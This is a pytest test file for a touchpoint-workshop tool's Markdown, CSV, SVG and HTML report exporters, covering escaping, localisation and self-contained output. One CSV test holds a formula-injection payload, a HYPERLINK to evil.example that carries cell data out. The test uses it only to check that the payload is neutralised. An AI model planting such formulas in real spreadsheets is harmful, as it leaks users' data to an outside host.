"""Shareable reports: Markdown, CSV, SVG and HTML (issue 7).

Golden files live in tests/golden/; regenerate them after an intended change with
``UPDATE_GOLDEN=1 pytest tests/test_reports.py`` and read the diff before committing. The
SVG and HTML goldens are rich's own export, so a rich upgrade may change them too.
"""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tpworkshop.analysis import analyse
from tpworkshop.domain.labels import FIELD_LABELS
from tpworkshop.domain.model import Action, Segment, Session, Stage, Touchpoint
from tpworkshop.formats.reports import (
    REPORT_FORMATS,
    default_suffix,
    export_report,
    write_report,
)
from tpworkshop.formats.reports.csv_report import COLUMNS, DELIMITERS, LIST_COLUMNS
from tpworkshop.formats.reports.markdown import escape
from tpworkshop.formats.reports.messages import REPORT
from tpworkshop.formats.reports.picture import self_contained
from tpworkshop.formats.toml_format import load_path

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "concesionario-5p-es.toml"
GOLDEN = Path(__file__).resolve().parent / "golden"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"
CREATED = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
UPDATED = datetime(2026, 11, 23, 11, 30, tzinfo=UTC)
SVG_NAMESPACE = "http://www.w3.org/2000/svg"


# --- fixtures and helpers -----------------------------------------------------------------


@pytest.fixture
def example() -> Session:
    session = load_path(EXAMPLE)
    session.created = session.created or CREATED  # fixed, so goldens never depend on now()
    session.updated = session.updated or UPDATED
    return session


def tricky_session(lang: str = "en") -> Session:
    """Names with pipes, newlines, Markdown and HTML characters, accents and commas."""
    return Session(
        name="# Shop | *launch* <b>",
        language=lang,
        framework="five-stage",
        participants=["Zoë", "_Ana_"],
        notes="first line\n- not a list\n\n# not a heading",
        stages=[Stage("awareness", "Aware | ness", 4), Stage("purchase", "Purchase", 2)],
        segments=[Segment("retail", "Retail `x`", "line 1\nline 2"), Segment("b2b", "B2B")],
        touchpoints=[
            Touchpoint(
                ref="tp-1",
                segment="retail",
                stage="awareness",
                name="Ads | posters\nand *flyers*",
                channel="print, outdoor",
                kind="communication",
                initiative="proactive",
                need='Know we "exist"\nand where',
                interactions=["posters", "flyers; stickers"],
                owner="Márketing",
                processes=["Plan"],
                people=["Eva"],
                customer_contacts=[],
                desired_outcome="Visits",
                data_generated=["reach"],
                optimal_experience="",
                effectiveness=2,
                pain_point=True,
                pain_note="Nobody sees them\nat night",
                votes=3,
                importance=5,
                moment_of_truth=True,
                evidence="observed",
            ),
            Touchpoint(ref="tp-2", segment="b2b", stage="purchase", name="<script>", position=0),
        ],
        actions=[Action("Fix | the ads", "tp-1", "Ana", date(2026, 12, 15))],
    )


def golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE:
        GOLDEN.mkdir(exist_ok=True)
        write_report(path, text)
    assert path.exists(), f"missing golden {path}: run with UPDATE_GOLDEN=1 once"
    assert text == path.read_bytes().decode("utf-8"), (
        f"{name} differs from its golden file; if the change is intended (this report's"
        " layout, or the analysis's wording), regenerate with UPDATE_GOLDEN=1 and read the diff"
    )


def table_rows(markdown: str) -> list[list[str]]:
    """Every table, as lists of rows split on unescaped pipes."""
    tables: list[list[str]] = []
    current: list[str] = []
    for line in [*markdown.splitlines(), ""]:
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    return tables


def cells(row: str) -> list[str]:
    unescaped = re.sub(r"\\.", "xx", row)  # \| and \\ are not column separators
    return unescaped.split("|")[1:-1]


# --- golden files ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", REPORT_FORMATS)
def test_golden(example: Session, fmt: str) -> None:
    text = export_report(example, analyse(example), fmt)
    golden(f"concesionario-5p-es{default_suffix(fmt)}", text)


@pytest.mark.parametrize("fmt", REPORT_FORMATS)
def test_same_session_same_bytes(example: Session, fmt: str) -> None:
    assert export_report(example, None, fmt) == export_report(example, analyse(example), fmt)


def test_api() -> None:
    assert REPORT_FORMATS == ("markdown", "csv", "svg", "html")
    assert [default_suffix(f) for f in REPORT_FORMATS] == [".md", ".csv", ".svg", ".html"]
    with pytest.raises(ValueError, match="markdown"):
        export_report(tricky_session(), None, "pdf")
    with pytest.raises(ValueError):
        default_suffix("docx")


@pytest.mark.parametrize("fmt", REPORT_FORMATS)
def test_empty_custom_session_exports(fmt: str) -> None:
    session = Session(name="Nada aún", language="es", framework="custom")
    assert export_report(session, None, fmt)


def test_messages_exist_in_every_language() -> None:
    assert REPORT.missing() == []


# --- Markdown -------------------------------------------------------------------------------


def test_markdown_tables_keep_their_columns() -> None:
    text = export_report(tricky_session(), None, "markdown")
    tables = table_rows(text)
    assert len(tables) >= 6
    for table in tables:
        widths = {len(cells(row)) for row in table}
        assert len(widths) == 1, table
        assert re.fullmatch(r"\|(---\|)+", table[1])


def test_markdown_map_cell_escapes_pipes_and_newlines() -> None:
    text = export_report(tricky_session(), None, "markdown")
    assert "Ads \\| posters<br>and \\*flyers\\* ⚠ (2)" in text
    assert "&lt;script>" in text and "<script>" not in text
    assert "# Workshop report — \\# Shop \\| \\*launch\\* &lt;b>" in text.splitlines()[0]


def test_markdown_multi_line_notes_stay_quoted() -> None:
    text = export_report(tricky_session(), None, "markdown")
    assert "> first line<br>\n> \\- not a list\n>\n> \\# not a heading" in text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a | b", "a \\| b"),
        ("line\nnext", "line<br>next"),
        ("cr\r\nlf\rx", "cr<br>lf<br>x"),
        ("# title", "\\# title"),
        ("snake_case *bold* `code`", "snake\\_case \\*bold\\* \\`code\\`"),
        ("<img src=x>", "&lt;img src=x>"),
        ("a & b &amp;", "a & b &amp;amp;"),
        ("[link](http://x)", "\\[link\\](http://x)"),
        ("- item\n1. one\n> quote", "\\- item<br>1\\. one<br>\\> quote"),
        ("back\\slash", "back\\\\slash"),
        ("Teléfono ñ", "Teléfono ñ"),
    ],
)
def test_markdown_escape(raw: str, shown: str) -> None:
    assert escape(raw) == shown


def test_markdown_headings_in_the_sessions_language(example: Session) -> None:
    es = export_report(example, None, "markdown")
    example.language = "en"
    en = export_report(example, None, "markdown")
    for key in ("participants", "summary", "map", "priorities", "actions", "appendix"):
        assert f"## {REPORT(key, 'es')}" in es
        assert f"## {REPORT(key, 'en')}" in en
    findings = analyse(example).findings
    count, high = len(findings), sum(f.severity == "high" for f in findings)
    assert f"## Análisis de brechas ({count} hallazgos)" in es and f"### Alta ({high})" in es
    assert f"## Gap analysis ({count} findings)" in en and f"### High ({high})" in en
    assert "| 15/12/2026 | abierta |" in es
    assert "| 2026-12-15 | open |" in en


def test_markdown_report_sections(example: Session) -> None:
    text = export_report(example, None, "markdown")
    headings = [line for line in text.splitlines() if line.startswith("## ")]
    assert headings == [
        "## Sesión",
        "## Participantes",
        "## Resumen",
        "## Mapa de puntos de contacto",
        "## Etapas: esfuerzo frente a importancia",
        "## Responsables",
        f"## Análisis de brechas ({len(analyse(example).findings)} hallazgos)",
        "## Importancia × desempeño",
        "## Prioridades principales",
        "## Funcionan bien: cópialos",
        "## Acciones",
        "## Anexo: detalle de los puntos de contacto",
    ]
    assert "- Ana (postventa)" in text
    assert (
        "1. **Visita de mantenimiento** (tp-6 · Familias · Contacto posterior): puntuación 17 = "
        "importancia 5 (el peso de la etapa) + 4 (efectividad 1/5) + 3 (punto de dolor) + "
        "5 (5 votos)"
    ) in text
    assert (
        "| alta | 1 de 9 puntos de contacto no tiene responsable: Visita de mantenimiento |"
    ) in text
    assert "### Todos los hallazgos" in text  # and then every one of them
    assert text.count("- **Sin datos:** ") == 4
    assert "| **Arreglar primero**<br>importantes y no funcionan | 4 | " in text
    assert "1. **Conversación con el vendedor** (tp-4 · Familias · Contacto fundamental)" in text
    assert text.count("\n### tp-") == len(example.touchpoints)


# --- CSV ------------------------------------------------------------------------------------


def read_csv(text: str, lang: str) -> list[dict[str, str]]:
    """The rows keyed by FORMAT.md's field names, read as a spreadsheet in ``lang`` would."""
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    data = text.encode("utf-8")
    reader = csv.reader(
        io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=DELIMITERS[lang]
    )
    header, *rows = list(reader)
    assert header == [FIELD_LABELS(column, lang) for column in COLUMNS]
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def words(lang: str, prefix: str, keys: tuple[str, ...]) -> dict[str, str]:
    """The report's word for each key, back to the key: {"humano": "human", ...}."""
    return {REPORT(prefix + key, lang): key for key in keys}


def from_row(session: Session, row: dict[str, str], column: str, lang: str) -> object:
    value = row[column]
    if column == "segment":
        return {s.name: s.key for s in session.segments}[value]
    if column == "stage":
        return {s.name: s.key for s in session.stages}[value]
    if column in LIST_COLUMNS:
        return value.split("; ") if value else []
    if column in ("effectiveness", "votes", "importance"):
        return int(value) if value else None
    if column in ("pain_point", "moment_of_truth"):
        return {REPORT("yes", lang): True, REPORT("no", lang): False}[value]
    if column == "kind":
        kinds = ("communication", "human", "physical", "sensory")
        return words(lang, "kind_", kinds)[value] if value else None
    if column == "initiative":
        return words(lang, "initiative_", ("proactive", "reactive"))[value] if value else None
    if column == "evidence":
        levels = ("assumed", "reported", "observed", "measured")
        return words(lang, "evidence_", levels)[value] if value else None
    return value


def assert_csv_equals_session(text: str, session: Session) -> None:
    lang = session.language
    rows = read_csv(text, lang)
    touchpoints = session.in_map_order()
    assert [row["ref"] for row in rows] == [tp.ref for tp in touchpoints]
    for row, tp in zip(rows, touchpoints, strict=True):
        for column in COLUMNS:
            expected = getattr(tp, column)
            assert from_row(session, row, column, lang) == expected, (tp.ref, column)


def test_csv_equals_the_example(example: Session) -> None:
    assert example.language == "es"
    assert_csv_equals_session(export_report(example, None, "csv"), example)
    example.language = "en"
    assert_csv_equals_session(export_report(example, None, "csv"), example)


@pytest.mark.parametrize("lang", ["en", "es"])
def test_csv_keeps_newlines_quotes_separators_and_accents(tmp_path: Path, lang: str) -> None:
    session = tricky_session(lang)
    session.touchpoints[0] = replace(
        session.touchpoints[0],
        interactions=["posters", "flyers"],  # "; " inside an item is lossy
        channel="print, outdoor; web",  # both separators inside a cell
    )
    text = export_report(session, None, "csv")
    assert_csv_equals_session(text, session)
    path = tmp_path / "map.csv"
    write_report(path, text)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "Márketing".encode() in raw
    assert b'"Know we ""exist""\nand where"' in raw
    assert b'"print, outdoor; web"' in raw


def test_csv_speaks_the_sessions_language(example: Session) -> None:
    spanish = export_report(example, None, "csv").removeprefix("\ufeff").splitlines()
    assert spanish[0].startswith("Id del punto de contacto;Segmento;Etapa;Nombre;Canal;Tipo;")
    assert ";Resultado deseado;" in spanish[0] and "," not in spanish[0]
    first = spanish[1].split(";")
    assert first[:3] == ["tp-1", "Familias", "Pre-contacto"]  # names, not keys
    assert "humano" in first and "reactivo" in first and "no" in first
    english = tricky_session("en")
    text = export_report(english, None, "csv")
    assert text.removeprefix("\ufeff").startswith(
        "Touchpoint id,Segment,Stage,Name,Channel,Kind,Initiative,"
    )
    row = read_csv(text, "en")[0]
    assert (row["segment"], row["stage"]) == ("Retail `x`", "Aware | ness")
    assert (row["kind"], row["initiative"], row["evidence"]) == (
        "communication",
        "proactive",
        "observed",
    )
    assert (row["pain_point"], row["moment_of_truth"]) == ("yes", "yes")


@pytest.mark.parametrize("lang", ["en", "es"])
def test_csv_neutralises_formulas_in_both_languages(lang: str) -> None:
    session = tricky_session(lang)
    session.touchpoints[0] = replace(
        session.touchpoints[0], name='=HYPERLINK("http://evil.example/?d="&A1,"x")'
    )
    session.segments[0].name = "@SUM(1)"
    session.stages[0].name = "+cmd"
    rows = read_csv(export_report(session, None, "csv"), lang)
    assert rows[0]["name"].startswith("'=")
    assert rows[0]["segment"] == "'@SUM(1)" and rows[0]["stage"] == "'+cmd"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- SVG and HTML ---------------------------------------------------------------------------

EXTERNAL = re.compile(r"https?://|@import|url\(\s*['\"]?\s*//", re.I)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [v or "" for k, v in attrs if k in ("href", "src", "srcset", "action")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_parses_and_is_self_contained(example: Session) -> None:
    page = export_report(example, None, "html")
    parser = _Collector()
    parser.feed(page)
    parser.close()
    assert {"html", "head", "style", "title", "body", "pre"} <= set(parser.tags)
    assert "link" not in parser.tags and "script" not in parser.tags
    assert parser.links == []
    assert not EXTERNAL.search(page)
    assert not re.search(r"(?:src|href)\s*=\s*['\"]?//", page)
    assert '<html lang="es">' in page
    text = "".join(parser.text)
    assert "Mapa de puntos de contacto — Concesionario" in text
    assert "Curva de experiencia" in text and "Cobertura: puntos de contacto" in text
    assert text.count("⚠") == 1 + example_pain_points(example)


def example_pain_points(session: Session) -> int:
    return sum(tp.pain_point for tp in session.touchpoints)


def test_html_prints_its_colours_on_one_landscape_page(example: Session) -> None:
    page = export_report(example, None, "html")
    assert "print-color-adjust: exact" in page
    assert "@page { size: landscape" in page
    assert "background-color: #ffffff" in page  # light theme


def test_svg_is_well_formed_and_self_contained(example: Session) -> None:
    svg = export_report(example, None, "svg")
    root = ET.fromstring(svg)
    assert root.tag == f"{{{SVG_NAMESPACE}}}svg"
    without_namespace = svg.replace(f'xmlns="{SVG_NAMESPACE}"', "")
    assert not EXTERNAL.search(without_namespace)
    for element in root.iter():
        for name, value in element.attrib.items():
            if name.endswith("href"):
                assert value.startswith("#"), (name, value)
    assert "font-face" not in svg and "Fira Code" not in svg
    assert "DejaVu Sans Mono" in svg and "monospace" in svg
    text = "".join(root.itertext()).replace("\xa0", " ")
    assert "Mapa de puntos de contacto — Concesionario" in text
    assert text.count("⚠") == 1 + example_pain_points(example)
    assert "#ffffff" in svg  # light background, readable on paper


def test_picture_keeps_user_text_that_looks_like_a_url() -> None:
    session = tricky_session()
    session.touchpoints[1] = replace(session.touchpoints[1], channel="https://shop.example")
    svg = export_report(session, None, "svg")
    ET.fromstring(svg)
    assert "https://shop.example" in svg.replace("&#160;", " ")
    assert "&lt;script&gt;" in svg and "<script" not in svg
    page = export_report(session, None, "html")
    assert "&lt;script&gt;" in page and "<script" not in page


def test_self_contained_strips_every_external_reference() -> None:
    document = (
        '<html><head><link rel="stylesheet" href="https://fonts.example/css">\n'
        "<style>@import url('https://fonts.example/x.css');\n"
        '@font-face { font-family: "Fira Code"; src: local("F"), url("https://cdn/x.woff2"); }\n'
        ".m { font-family: Fira Code, monospace; background: url(//cdn/bg.png); }</style>"
        "<!-- Generated with Rich https://www.textualize.io --></head>"
        '<body><img src="http://x/y.png"><pre>see https://kept.example</pre></body></html>'
    )
    cleaned = self_contained(document)
    assert "fonts.example" not in cleaned and "cdn" not in cleaned
    assert "textualize" not in cleaned and "http://x" not in cleaned
    assert "@import" not in cleaned and "@font-face" not in cleaned
    assert "'DejaVu Sans Mono'" in cleaned
    assert "see https://kept.example" in cleaned  # user text is not markup


def test_picture_headings_follow_the_language(example: Session) -> None:
    example.language = "en"
    svg = export_report(example, None, "svg")
    text = "".join(ET.fromstring(svg).itertext()).replace("\xa0", " ")
    assert "Experience curve" in text and "Curva de experiencia" not in text
    assert "Touchpoint map — " in text
